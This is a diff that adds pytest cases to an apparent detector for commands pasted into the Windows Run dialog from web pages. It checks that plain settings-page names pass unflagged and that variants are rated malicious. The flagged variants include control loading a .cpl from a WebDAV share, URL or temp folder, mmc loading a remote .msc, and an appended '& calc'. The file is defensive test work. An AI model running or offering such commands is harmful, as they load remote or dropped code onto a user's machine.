@@ -84,3 +84,45 @@ def test_a_url_with_a_fake_verification_tail_in_the_run_box_is_malicious(engine:
     verdict = engine.analyze(text, Context(source=PAGE, target=PasteTarget.RUN_DIALOG))
     assert verdict.level is Level.MALICIOUS, verdict.rule_ids
     assert engine.analyze(text, Context(target=PasteTarget.RUN_DIALOG)).flagged
+
+
+@pytest.mark.parametrize("target", RUN_BOXES)
+@pytest.mark.parametrize(
+    "text",
+    [
+        "control printers",
+        "control /name Microsoft.DeviceManager",
+        "control /name Microsoft.System /page pageAdvancedSettings",
+        "control sysdm.cpl,,3",
+        "mmc devmgmt.msc",
+        "ms-settings:windowsupdate",
+    ],
+)
+def test_a_windows_settings_page_by_its_own_name_is_not_flagged_even_from_a_page(
+    engine: Engine, target: PasteTarget, text: str
+) -> None:
+    assert run_box_shape(text) is not Shape.COMMAND
+    verdict = engine.analyze(text, Context(source=PAGE, target=target))
+    assert verdict.level <= Level.INFO, (text, verdict.rule_ids)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        r"control \\files.example.test@SSL\DavWWWRoot\x.cpl",
+        r"control C:\Users\Public\Downloads\x.cpl",
+        r"control %TEMP%\sysdm.cpl",
+        "control https://files.example.test/x.cpl",
+        "control unknown.cpl",
+        "control printers extra",
+        "control printers & calc",
+        r"mmc \\files.example.test\pub\x.msc",
+        "mmc grim.msc",
+    ],
+)
+def test_a_settings_word_with_a_path_share_address_or_more_is_a_command(
+    engine: Engine, text: str
+) -> None:
+    assert run_box_shape(text) is Shape.COMMAND
+    verdict = engine.analyze(text, Context(source=PAGE, target=PasteTarget.RUN_DIALOG))
+    assert verdict.level is Level.MALICIOUS, verdict.rule_ids
